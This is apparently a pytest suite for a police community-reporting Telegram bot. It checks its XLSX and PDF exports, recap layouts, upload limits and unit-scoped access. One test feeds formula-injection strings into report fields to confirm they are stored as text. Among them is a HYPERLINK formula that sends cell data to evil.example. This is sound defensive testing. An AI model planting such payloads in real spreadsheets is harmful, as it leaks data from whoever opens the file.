"""Exports: XLSX with typed cells, report PDF with photos, recap PDF, limits, unit scope."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
from PIL import Image
from pypdf import PdfReader

from domain import exports, pdf
from domain.answers import EquipmentState
from domain.catalogue import load_catalogue
from domain.reports import ReportColumns
from emulator import Emulator
from emulator.harness import BotHarness
from tests.support.browse import NUMBER, OTHER_NUMBER, report_id, two_units
from tests.support.exports import documents, pdf_text
from tests.support.reports import CATALOGUE, fill_sapta, seed, walk_rest
from ui.views import photo_path


def status(user) -> str:
    """The export's status message (it is edited in place, so it is not the newest)."""
    return [m for m in user.messages if m.kind == "text"][-1].text or ""


async def test_xlsx_holds_the_units_rows_with_types(harness: BotHarness, emu: Emulator):
    officer, kanit, _, _ = await two_units(harness, emu)
    await fill_sapta(officer, photos=1)  # a second binkamsa report
    await officer.press("📤 Kirim laporan")

    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan ini")
    (document,) = documents(kanit)
    assert document.file_name.endswith(".xlsx")
    status = next(m for m in kanit.messages if "Ekspor selesai" in (m.text or ""))
    assert status.edits  # one status message, edited as the export moved on

    workbook = openpyxl.load_workbook(io.BytesIO(document.file_bytes))
    assert "POS SAPTA" in workbook.sheetnames
    assert "Keluhan" in workbook.sheetnames
    sheet = workbook["POS SAPTA"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref
    header = [cell.value for cell in sheet[1]]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    numbers = [row[header.index("Nomor laporan")] for row in rows]
    assert sorted(numbers) == [NUMBER, "LAP/SAPTA/2026/11/0003"]
    assert OTHER_NUMBER not in numbers  # the other unit's report
    async with harness.db.reading() as repos:
        first = next(r for r in await repos.reports.all() if r.number == NUMBER)
    row = rows[numbers.index(NUMBER)]
    start = row[header.index("Mulai (WITA)")]
    assert isinstance(start, datetime)
    assert start == first.started_at.astimezone(harness.settings.tz).replace(tzinfo=None)
    assert row[header.index("Durasi (menit)")] == 60
    assert row[header.index("Jumlah keluhan")] == 1
    assert row[header.index("Jumlah foto")] == 1
    assert isinstance(row[header.index("Lintang")], float)
    assert row[header.index("Petugas")] == "Budi Santoso"
    assert sheet.cell(row=2, column=header.index("Mulai (WITA)") + 1).is_date

    complaints = workbook["Keluhan"]
    crows = list(complaints.iter_rows(min_row=2, values_only=True))
    assert len(crows) == 2
    cheader = [cell.value for cell in complaints[1]]
    assert {r[cheader.index("Nomor laporan")] for r in crows} == {
        NUMBER, "LAP/SAPTA/2026/11/0003"}
    assert all(r[cheader.index("Nama warga")] == "Pak Hasan" for r in crows)
    assert all(isinstance(r[cheader.index("No. keluhan")], int) for r in crows)
    async with harness.db.reading() as repos:
        audit = await repos.audit.recent()
    assert any(e["action"] == "report.export" and e["target_id"] == "xlsx" for e in audit)


async def test_report_pdf_in_police_layout_with_photos(harness: BotHarness, emu: Emulator):
    officer, kanit = (await two_units(harness, emu))[:2]
    await kanit.send("/cari")
    await kanit.press(NUMBER)
    await kanit.press("📄 PDF")
    (document,) = documents(kanit)
    reader = PdfReader(io.BytesIO(document.file_bytes))
    assert len(reader.pages) == 2  # the report, then one attachment page with its photo
    text = pdf_text(reader)
    for expected in ("KEPOLISIAN NEGARA REPUBLIK INDONESIA", "LAPORAN HASIL KEGIATAN", NUMBER,
                     "1. DASAR", "2. MAKSUD DAN TUJUAN", "3. WAKTU DAN TEMPAT",
                     "6. HASIL YANG DICAPAI", "8. PENUTUP",
                     "Sprin/12/XI/2026/Satbinmas", "pencurian motor", "Warga: Pak",
                     "Budi Santoso", "NRP 87654321", "LAMPIRAN"):
        assert expected in text, expected
    assert len(reader.pages[1].images) == 1
    assert "kontak -" not in text  # the resident gave no contact: none is printed
    assert "PDF selesai (2 halaman)" in status(kanit)


async def test_recap_pdf(harness: BotHarness, emu: Emulator):
    _, kanit, _, _ = await two_units(harness, emu)
    await kanit.send("/ekspor")
    await kanit.press("📄 Rekap PDF bulan ini")
    (document,) = documents(kanit)
    reader = PdfReader(io.BytesIO(document.file_bytes))
    pages = [page.extract_text() or "" for page in reader.pages]
    text = "\n".join(pages)
    assert "REKAPITULASI" in text
    assert reader.metadata.title == "REKAPITULASI KEGIATAN POLMAS 01/11/2026–30/11/2026"
    # Tables, not prose: the activities with their residents, the officers with their duties.
    assert "Kegiatan Laporan Warga terjangkau" in pages[0]
    assert "POS SAPTA 1 25" in pages[0]
    assert "Petugas Laporan Tepat waktu Terlambat" in text
    assert "BRIPKA Budi Santoso 1 0 0 0" in text
    assert "Pencurian 1 0 1 0 0 0" in text  # category, total, emergencies, then by status
    assert "darurat)" not in text
    assert "Status " not in text
    # The chart comes with the numbers on the first page, not after the list.
    assert len(reader.pages[0].images) == 1
    # The closing and both signatures on one page, before the list of reports.
    signed = next(i for i, page in enumerate(pages) if "Mengetahui," in page)
    for expected in ("PENUTUP", "Gorontalo, 28 November 2026", "Yang membuat rekapitulasi,",
                     "Andi Kanit", "IPTU NRP 11112222", "KASAT BINMAS POLRES GORONTALO KOTA"):
        assert expected in pages[signed], expected
    annex = pages[signed + 1:]
    assert len(annex) == 1
    assert "LAMPIRAN: DAFTAR LAPORAN" in annex[0]
    assert NUMBER in annex[0]
    assert NUMBER not in "\n".join(pages[:signed + 1])
    assert OTHER_NUMBER not in text
    assert f"Hal. 1/{len(pages)}" in pages[0]


async def restart_with_upload_limit(harness: BotHarness, limit: int) -> None:
    """The operator sets UPLOAD_LIMIT_BYTES and restarts the bot on the same data."""
    harness.settings = harness.settings.model_copy(update={"upload_limit_bytes": limit})
    await harness.restart()


async def test_over_the_upload_limit_split_or_without_photos(harness: BotHarness, emu: Emulator):
    _, kanit, _, _ = await two_units(harness, emu)
    await restart_with_upload_limit(harness, 1024)
    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan ini")
    assert len(documents(kanit)) == 5  # four activities and the complaints, one file each
    assert "dibagi menjadi 5 berkas" in status(kanit)
    assert "(1 KB)" in status(kanit)

    await kanit.send("/cari")
    await kanit.press(NUMBER)
    await kanit.press("📄 PDF")
    reader = PdfReader(io.BytesIO(documents(kanit)[-1].file_bytes))
    assert len(reader.pages) == 1
    assert "tanpa foto" in status(kanit)


async def test_exports_refused_outside_the_unit(harness: BotHarness, emu: Emulator):
    officer, _, officer2, kanit2 = await two_units(harness, emu)
    rid = await report_id(harness, NUMBER)
    await kanit2.send("/ekspor")
    await kanit2.press_forged(f"a:kx:pdf:{rid}", kanit2.last)
    assert "tidak berlaku" in kanit2.callback_answers[-1]["text"]
    assert documents(kanit2) == []
    await kanit2.press("📊 XLSX bulan ini")
    workbook = openpyxl.load_workbook(io.BytesIO(documents(kanit2)[0].file_bytes))
    numbers = [row[0] for row in workbook["POS SAPTA"].iter_rows(min_row=2, values_only=True)]
    assert numbers == [OTHER_NUMBER]
    crows = list(workbook["Keluhan"].iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in crows] == [OTHER_NUMBER]

    await officer.send("/ekspor")
    assert "pimpinan" in officer.last.text.lower()
    await officer.press_forged(f"a:kx:pdf:{rid}", officer.last)
    assert documents(officer) == []


async def test_hundreds_of_reports_export_with_progress(harness: BotHarness, emu: Emulator):
    kanit = emu.user(2001, "Kanit")
    await harness.seed_officer(kanit, name="Andi Kanit", nrp="11112222", unit="binkamsa",
                               role="kanit", rank="IPTU")
    officer = await harness.seed_officer(emu.user(1001, "Budi"), name="Budi Santoso",
                                         nrp="87654321", unit="binkamsa")
    now = harness.clock.now()
    async with harness.db.transaction() as tx:
        for index in range(300):
            started = now - timedelta(hours=index + 1)
            await tx.reports.create(
                number=f"LAP/SATRIA/2026/11/{index + 1:04d}", activity_code="satria",
                officer_id=officer.id, unit_code="binkamsa",
                columns=ReportColumns(
                    started_at=started,
                    ended_at=started + timedelta(hours=1),
                    place=f"Pos {index}",
                ),
                answers={"summary": f"Siaga ke-{index}", "residents": index},
                assignment_id=None, now=started + timedelta(hours=1),
            )
    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan ini")
    (document,) = documents(kanit)
    workbook = openpyxl.load_workbook(io.BytesIO(document.file_bytes))
    sheet = workbook["POS SATRIA"]
    assert sheet.max_row == 301
    progress = next(m for m in kanit.messages if "Ekspor selesai" in (m.text or ""))
    assert sum("laporan" in (edit.text or "") for edit in progress.edits) >= 6  # per batch


async def test_kasat_chooses_the_unit_and_cannot_forge_another(
    harness: BotHarness, emu: Emulator
):
    _, _, _, kanit2 = await two_units(harness, emu)
    kasat = emu.user(2100, "Kasat")
    await harness.seed_officer(kasat, name="Kasat Binmas", nrp="44445555", unit="satbinmas",
                               role="kasat", rank="AKP")
    await kasat.send("/ekspor")
    assert "pilih unitnya" in kasat.last.text
    await kasat.press("Unit Binpolmas")
    assert "Unit Binpolmas" in kasat.last.text
    await kasat.press("📊 XLSX bulan ini")
    workbook = openpyxl.load_workbook(io.BytesIO(documents(kasat)[0].file_bytes))
    numbers = [row[0] for row in workbook["POS SAPTA"].iter_rows(min_row=2, values_only=True)]
    assert numbers == [OTHER_NUMBER]

    await kanit2.send("/ekspor")
    for forged in ("a:kx:x:m:binkamsa", "a:kx:u:binkamsa", "a:kx:r:m:satbinmas"):
        await kanit2.press_forged(forged, kanit2.last)
        assert "tidak berlaku" in kanit2.callback_answers[-1]["text"]
    assert documents(kanit2) == []


def noisy_jpeg(width: int, height: int, seed: int) -> bytes:
    """A photo that compresses as badly as a real one (grain everywhere)."""
    grain = Image.effect_noise((width, height), 60 + seed).convert("RGB")
    out = io.BytesIO()
    grain.save(out, "JPEG", quality=95)
    return out.getvalue()


async def test_pdf_over_the_limit_has_its_photos_shrunk(harness: BotHarness, emu: Emulator):
    officer, kanit = await seed(harness, emu)
    await officer.send("/lapor")
    await officer.press("POS SAPTA")
    await walk_rest(officer, photos=0, until=lambda text: "Foto dokumentasi" in text)
    for index in range(2):
        await officer.send_photo(noisy_jpeg(1600, 1200, index))
    await walk_rest(officer, photos=0)
    await officer.press("📤 Kirim laporan")

    await kanit.send("/cari")
    await kanit.press(NUMBER)
    await kanit.press("📄 PDF")
    full = documents(kanit)[-1].file_bytes
    assert "PDF selesai (2 halaman)." in status(kanit)
    rid = await report_id(harness, NUMBER)
    async with harness.db.reading() as repos:
        hashes = await repos.report_photos.of_report(rid)
    services = harness.application.bot_data.services
    photos = sum(photo_path(services, sha).stat().st_size for sha in hashes)
    assert len(full) > photos  # the photos go in as they are stored

    # A limit the photos as stored do not fit, but shrunk ones do.
    limit = photos
    await restart_with_upload_limit(harness, limit)
    await kanit.press("📄 PDF")
    shrunk = documents(kanit)[-1]
    assert "Foto diperkecil agar berkas muat dalam batas unggah Telegram" in status(kanit)
    assert len(shrunk.file_bytes) <= limit < len(full)
    reader = PdfReader(io.BytesIO(shrunk.file_bytes))
    assert len(reader.pages) == 2
    images = reader.pages[1].images
    assert len(images) == 2  # both photos, smaller
    for image in images:
        assert max(image.image.size) <= pdf.COMPRESSED_SIDE
    assert NUMBER in pdf_text(reader)
    async with harness.db.reading() as repos:
        audit = await repos.audit.recent()
    assert any(e["action"] == "report.export" and e["details"].get("reduced") == 1
               for e in audit)


async def scheduled_saturday(harness: BotHarness, emu: Emulator):
    """Saturday 28/11 in Binkamsa: four duties, one reported on time, one late, one missing,
    one still in its grace at 19.00 WITA (the test_groups case, seen by the kanit)."""
    kanit = emu.user(2001, "Kanit")
    await harness.seed_officer(kanit, name="Andi Kanit", nrp="11112222", unit="binkamsa",
                               role="kanit", rank="IPTU")
    banit = await harness.seed_officer(emu.user(1001, "Budi"), name="Budi Santoso",
                                       nrp="87654321", unit="binkamsa")
    banit2 = await harness.seed_officer(emu.user(1002, "Siti"), name="Siti Aminah",
                                        nrp="87654322", unit="binkamsa")
    midnight = datetime(2026, 11, 28, tzinfo=UTC) - timedelta(hours=8)  # 00.00 WITA

    async with harness.db.transaction() as tx:
        for activity, hour, people in (("sapta", 7, [banit]), ("satria", 9, [banit, banit2]),
                                       ("satria", 17, [banit])):
            post = await tx.assignments.create(
                activity_code=activity, unit_code="binkamsa", place="Pos", sprin=None,
                starts_at=midnight + timedelta(hours=hour),
                ends_at=midnight + timedelta(hours=hour + 1), created_by=None,
                now=harness.clock.now(),
            )
            await tx.assignments.add_officers(post, [o.id for o in people])
        for number, (officer, activity, hour, submitted) in enumerate(
            ((banit, "sapta", 7, 8.5), (banit2, "satria", 9, 13)), start=1
        ):
            await tx.reports.create(
                number=f"T/{number}", activity_code=activity, officer_id=officer.id,
                unit_code="binkamsa",
                columns=ReportColumns(
                    started_at=midnight + timedelta(hours=hour, minutes=5),
                    ended_at=midnight + timedelta(hours=hour + 1),
                    place="Pos",
                ),
                answers={"residents": 3}, assignment_id=None,
                now=midnight + timedelta(hours=submitted),
            )
    harness.clock.set(midnight + timedelta(hours=19))
    return kanit


RATE_LINE = re.compile(r"Tingkat pelaporan: \d+ dari \d+ pos terjadwal \(\d+%\)")


async def test_recap_pdf_has_the_reporting_rate_of_rekap_and_its_chart(
    harness: BotHarness, emu: Emulator
):
    kanit = await scheduled_saturday(harness, emu)
    await kanit.send("/rekap minggu")
    shown = RATE_LINE.search(kanit.last.text)
    assert shown is not None
    assert shown.group(0) == "Tingkat pelaporan: 2 dari 3 pos terjadwal (67%)"

    await kanit.send("/ekspor")
    await kanit.press("📄 Rekap PDF minggu ini")
    reader = PdfReader(io.BytesIO(documents(kanit)[-1].file_bytes))
    text = pdf_text(reader)
    assert "TINGKAT PELAPORAN" in text
    assert shown.group(0) in text  # the same numbers as /rekap for the same week
    for line in ("Tepat waktu: 1.", "Terlambat: 1.", "Tidak dilaporkan: 1."):
        assert line in text, line
    # The late and missing duties by name, as the digest names them.
    assert ("Tidak dilaporkan BRIPKA Budi Santoso POS SATRIA Sabtu, 28/11/2026 09.00–10.00 WITA"
            in " ".join(text.replace("\n", " ").split()))
    assert ("Terlambat BRIPKA Siti Aminah POS SATRIA Sabtu, 28/11/2026 09.00–10.00 WITA"
            in " ".join(text.replace("\n", " ").split()))
    # Officers with their duties: Budi reported one on time and left one unreported.
    assert "BRIPKA Budi Santoso 1 1 0 1" in text
    assert "BRIPKA Siti Aminah 1 0 1 0" in text
    # The summaries' bar chart and the reporting rate of the weeks up to this one, both
    # before the signature, not after the list.
    signed = next(i for i, page in enumerate(reader.pages)
                  if "Mengetahui," in (page.extract_text() or ""))
    assert sum(len(page.images) for page in reader.pages[:signed + 1]) == 2
    assert "Kegiatan Polmas" in text
    assert "Tingkat pelaporan per minggu" in text
    charts = [image for page in reader.pages for image in page.images]
    with Image.open(io.BytesIO(charts[-1].data)) as chart:
        assert chart.width >= 1080

    # The same day chosen by typing it: the same rate as /rekap today.
    await kanit.send("/rekap")
    today = RATE_LINE.search(kanit.last.text)
    assert today is not None
    await kanit.send("/ekspor")
    await kanit.press("📅 Pilih tanggal")
    await kanit.send("28/11")
    await kanit.press("📄 Rekap PDF 28/11/2026")
    document = documents(kanit)[-1]
    assert document.file_name == "rekap_20261128-20261128.pdf"
    assert today.group(0) in pdf_text(PdfReader(io.BytesIO(document.file_bytes)))


async def test_recap_pdf_without_a_schedule_says_so(harness: BotHarness, emu: Emulator):
    _, kanit, _, _ = await two_units(harness, emu)
    await kanit.send("/ekspor")
    await kanit.press("📄 Rekap PDF bulan ini")
    text = pdf_text(PdfReader(io.BytesIO(documents(kanit)[-1].file_bytes)))
    assert "Tingkat pelaporan: belum ada pos terjadwal." in text


HOSTILE_SPRIN = "=1+1"
HOSTILE_SUMMARY = '=HYPERLINK("http://evil.example/leak?x="&B2,"Klik untuk detail")'


async def hostile_complaint(officer, description: str, place: str, name: str) -> None:
    await officer.press("Pencurian")
    await officer.send(description)
    await officer.press("Segera")
    await officer.press("📍 Tempat")
    await officer.send(place)
    await officer.press("👤 Nama warga")
    await officer.send(name)
    await officer.press("➕ Simpan, tambah keluhan lain")


async def file_hostile_report(officer) -> None:
    """A SAPTA report whose every free text begins with a formula character."""
    await officer.send("/lapor")
    await officer.press("POS SAPTA")
    await officer.press("✏️ Nomor Sprin")
    await officer.send(HOSTILE_SPRIN)
    await officer.send("\uff1d1 RW 03 Kel. Heledulaa")  # full-width ＝
    await officer.send_location(0.5412, 123.0595)
    await walk_rest(officer, photos=1, until=lambda text: "Uraikan singkat" in text)
    await officer.send(HOSTILE_SUMMARY)
    await walk_rest(officer, photos=1, until=lambda text: "keluhan atau permasalahan" in text)
    await officer.press("✏️ Kendala")  # preset to none, shown on the complaints question
    await officer.send("\t=1+2 hujan deras")
    await hostile_complaint(officer, "@SUM(A1)", "+1", "-1 Pak Hasan")
    await hostile_complaint(officer, "\t=1+1 motor", "\uff1d1", "=Bu Siti")
    await hostile_complaint(officer, "\r-1 pencurian", "-1", "@Pak Budi")
    await officer.press("✅ Selesai")
    await walk_rest(officer, photos=1)
    await officer.press("📤 Kirim laporan")


async def test_xlsx_has_no_formula_whatever_an_officer_typed(
    harness: BotHarness, emu: Emulator
):
    officer, kanit = await seed(harness, emu)
    await file_hostile_report(officer)
    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan ini")
    (document,) = documents(kanit)

    with zipfile.ZipFile(io.BytesIO(document.file_bytes)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml, name
            assert "<f " not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(document.file_bytes))
    texts: dict[str, object] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts[cell.value] = cell
    for typed in (HOSTILE_SPRIN, HOSTILE_SUMMARY, "\uff1d1 RW 03 Kel. Heledulaa",
                  "=1+2 hujan deras", "@SUM(A1)", "+1", "-1 Pak Hasan", "=1+1 motor",
                  "\uff1d1", "=Bu Siti", "-1 pencurian", "-1", "@Pak Budi"):
        assert typed in texts, typed
        assert texts[typed].quotePrefix, typed  # type: ignore[attr-defined]
    sheet = workbook["POS SAPTA"]
    header = [cell.value for cell in sheet[1]]
    (row,) = sheet.iter_rows(min_row=2)
    assert row[header.index("Nomor Sprin")].value == HOSTILE_SPRIN
    assert row[header.index("Uraian kegiatan")].value == HOSTILE_SUMMARY
    assert row[header.index("Jumlah keluhan")].value == 3  # numbers stay numbers
    assert row[header.index("Jumlah keluhan")].data_type == "n"
    assert row[header.index("Mulai (WITA)")].is_date
    complaints = list(workbook["Keluhan"].iter_rows(min_row=2, values_only=True))
    assert len(complaints) == 3


async def test_xlsx_counts_a_report_filed_after_midnight_as_the_recap_does(
    harness: BotHarness, emu: Emulator
):
    officer, kanit = await seed(harness, emu)
    harness.clock.set(datetime(2026, 11, 30, 15, 40, tzinfo=UTC))  # 30/11 23.40 WITA
    await fill_sapta(officer, photos=1)  # the post ran 22.40–23.40 WITA on 30 November
    harness.clock.advance(timedelta(minutes=40))  # filed at 00.20 WITA on 1 December
    await officer.press("📤 Kirim laporan")
    async with harness.db.reading() as repos:
        (report,) = await repos.reports.all()
        (complaint,) = await repos.complaints.of_report(report.id)
        recorded = (await repos.complaint_desk.get(complaint.id)).created_at
    assert recorded.astimezone(harness.settings.tz).day == 1  # recorded in December

    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan lalu")
    await kanit.press("📄 Rekap PDF bulan lalu")
    xlsx, recap = documents(kanit)
    assert xlsx.file_name == "laporan_binkamsa_20261101-20261130.xlsx"
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx.file_bytes))
    sheet = workbook["POS SAPTA"]
    header = [cell.value for cell in sheet[1]]
    (row,) = sheet.iter_rows(min_row=2, values_only=True)
    assert row[header.index("Jumlah keluhan")] == 1
    complaints = list(workbook["Keluhan"].iter_rows(min_row=2, values_only=True))
    assert len(complaints) == 1  # the recap's rule: the report's activity time, not filing
    text = pdf_text(PdfReader(io.BytesIO(recap.file_bytes)))
    assert "Pencurian 1 " in text
    assert "Jumlah 1 25" in text  # one report, its residents: the same month as the sheet


async def test_xlsx_is_typed_wrapped_and_set_up_for_printing(harness: BotHarness,
                                                            emu: Emulator):
    officer, kanit = await seed(harness, emu)
    await fill_sapta(officer, photos=1, complaint="Sering terjadi pencurian motor " * 8)
    await officer.press("📤 Kirim laporan")
    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX bulan ini")
    (document,) = documents(kanit)
    workbook = openpyxl.load_workbook(io.BytesIO(document.file_bytes))
    assert workbook.properties.creator == "Polres Gorontalo Kota"
    assert "Unit Binkamsa" in workbook.properties.title
    for sheet in workbook.worksheets:  # one rule for every sheet
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.oddHeader.center.text == (
            "Polres Gorontalo Kota · Unit Binkamsa · 01/11/2026–30/11/2026")
        assert sheet.oddFooter.right.text == "Hal. &P/&N"
        assert all(sheet.column_dimensions[letter].width >= 8
                   for letter in ("A", "B", "C"))
    sapta = workbook["POS SAPTA"]
    header = [cell.value for cell in sapta[1]]
    values = {name: sapta.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    assert values["Mulai (WITA)"].is_date
    assert values["Dikirim (WITA)"].is_date
    assert isinstance(values["Durasi (menit)"].value, int)
    assert values["Peringatan SOP dipatuhi"].value == "Ya"
    assert values["Perlengkapan"].value == "Lengkap"
    assert values["Perlengkapan"].alignment.wrap_text
    assert values["Ketepatan waktu"].value is None  # no scheduled post behind this report
    keluhan = workbook["Keluhan"]
    cheader = [cell.value for cell in keluhan[1]]
    for name in ("Nomor laporan", "Kegiatan", "Petugas"):
        assert name in cheader, name
    crow = {name: keluhan.cell(row=2, column=index + 1) for index, name in enumerate(cheader)}
    assert crow["Kegiatan"].value == "POS SAPTA"
    assert crow["Petugas"].value == "Budi Santoso"
    assert crow["Dicatat (WITA)"].is_date
    assert crow["Uraian"].alignment.wrap_text
    assert keluhan.column_dimensions[crow["Uraian"].column_letter].width == 50
    assert keluhan.row_dimensions[2].height >= 45  # the long description shows whole


async def test_xlsx_marks_reports_on_time_or_late_as_the_recap_judges_them(
    harness: BotHarness, emu: Emulator
):
    kanit = await scheduled_saturday(harness, emu)
    await kanit.send("/ekspor")
    await kanit.press("📊 XLSX minggu ini")
    workbook = openpyxl.load_workbook(io.BytesIO(documents(kanit)[-1].file_bytes))
    found = {}
    for name in ("POS SAPTA", "POS SATRIA"):
        sheet = workbook[name]
        header = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2, values_only=True):
            found[row[header.index("Nomor laporan")]] = row[header.index("Ketepatan waktu")]
    assert found == {"T/1": "Tepat waktu", "T/2": "Terlambat"}


def test_the_equipment_cell_names_each_missing_item_with_its_reason():
    catalogue = load_catalogue(CATALOGUE)
    state = EquipmentState.start(["sprin", "camera", "notebook"]).toggle("sprin")
    state = state.set_reason("camera", "baterai habis")
    labels = {"complete": "Lengkap", "missing_item": "{item} tidak dibawa ({reason})"}
    text = exports.equipment_text(catalogue, state.to_json(), labels, "id")
    assert text == ("Kamera / HP tidak dibawa (baterai habis); "
                    "Buku catatan tidak dibawa (-)")
    assert exports.equipment_text(catalogue, None, labels, "id") is None


def test_every_formula_start_is_written_as_text_in_a_sheet():
    """Tab, CR and line feed start formulas in some spreadsheet programs too: the form strips
    them from the start of an answer, but whatever reaches a sheet is text (#19 item 1)."""
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "\uff1d1",
              "\uff0b1", "\uff0d1", "\uff201"]
    workbook = exports.new_workbook()
    exports.add_sheet(workbook, exports.Sheet(
        "Uji", tuple(starts), ("text",) * len(starts), [tuple(starts), (1, 2.5) + ("",) * 9]))
    content = exports.workbook_bytes(workbook)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Uji"]
    for row in (1, 2):
        for column, typed in enumerate(starts, start=1):
            cell = sheet.cell(row=row, column=column)
            # XML reads a CR as a line feed: the cell is still that text, as text.
            assert (cell.value, cell.data_type) == (typed.replace("\r", "\n"), "s"), typed
            assert cell.quotePrefix, (row, typed)
    assert sheet.cell(row=3, column=1).data_type == "n"  # numbers stay numbers
    assert sheet.cell(row=3, column=2).value == 2.5
